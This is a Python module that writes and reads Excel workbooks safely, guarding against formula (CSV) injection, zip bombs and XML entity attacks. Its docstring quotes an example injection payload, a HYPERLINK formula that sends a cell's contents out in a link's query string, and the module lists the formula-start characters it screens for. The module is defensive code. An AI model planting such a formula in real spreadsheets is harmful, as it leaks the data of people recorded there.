"""Excel workbooks the portal writes and reads, with the format's two hazards handled in one place.

Writing: text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Sheets, or becomes one when the cell is edited, so an applicant's name typed as
``=HYPERLINK("http://…?d="&C5,"Xem")`` would be a live link in an officer's tracking book (formula
injection, OWASP "CSV injection"). Every string written through ``append_row`` or ``write_cell`` is stored
as a text cell, and the risky ones also carry Excel's quote prefix (the apostrophe Excel itself puts before
text that looks like a formula), so editing the cell keeps it text. The stored text is the value itself:
an exported catalogue imports back unchanged.

Reading: an .xlsx is a zip of XML. ``open_workbook`` refuses archives that inflate far beyond their size
(zip bombs) before opening them read-only; openpyxl parses the XML through defusedxml (a dependency), which
refuses entity declarations (billion laughs, external entities). ``READ_ERRORS`` is what a damaged or
disguised file makes openpyxl raise, at opening or while its rows are read."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterable
from typing import IO, Any
from xml.etree.ElementTree import ParseError

from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import Cell
from openpyxl.utils.exceptions import InvalidFileException
from openpyxl.worksheet.worksheet import Worksheet

# The characters OWASP lists as starting a formula (or a DDE command) in a spreadsheet cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# defusedxml's refusals are ValueErrors; a damaged archive raises the rest.
READ_ERRORS = (InvalidFileException, zipfile.BadZipFile, KeyError, ValueError, TypeError, ParseError, OSError,
               EOFError)
# No real workbook inflates more than this many times its zipped size (text compresses about tenfold).
MAX_INFLATION = 40


class UnreadableWorkbook(Exception):
    """The upload is not a readable .xlsx (``reason``: not_xlsx or bomb)."""

    def __init__(self, reason: str):
        super().__init__(reason)
        self.reason = reason


def workbook() -> Workbook:
    return Workbook()


def as_text(cell: Cell) -> Cell:
    """Make a string cell plain text whatever it starts with (never a formula)."""
    if isinstance(cell.value, str):
        cell.data_type = "s"  # openpyxl types a value starting with "=" as a formula
        if cell.value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
    return cell


def write_cell(sheet: Worksheet, *, row: int, column: int, value: Any) -> Cell:
    return as_text(sheet.cell(row=row, column=column, value=value))


def append_row(sheet: Worksheet, values: Iterable[Any]) -> tuple[Cell, ...]:
    """``sheet.append(values)`` with every string written as text; returns the row's cells."""
    sheet.append(list(values))
    cells = sheet[sheet.max_row]
    for cell in cells:
        as_text(cell)
    return cells


def workbook_bytes(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def open_workbook(source: str | IO[bytes] | bytes, *, max_bytes: int) -> Workbook:
    """A read-only workbook of an uploaded file (a path, a stream or its bytes; at most ``max_bytes``
    zipped), values not formulas. Raises UnreadableWorkbook. The caller closes it."""
    stream = io.BytesIO(source) if isinstance(source, bytes) else source
    try:
        with zipfile.ZipFile(stream) as archive:
            inflated = sum(info.file_size for info in archive.infolist())
    except (zipfile.BadZipFile, OSError, EOFError):
        raise UnreadableWorkbook("not_xlsx") from None
    finally:
        if hasattr(stream, "seek"):
            stream.seek(0)
    if inflated > max_bytes * MAX_INFLATION:
        raise UnreadableWorkbook("bomb")
    try:
        return load_workbook(stream, read_only=True, data_only=True)
    except READ_ERRORS:
        raise UnreadableWorkbook("not_xlsx") from None
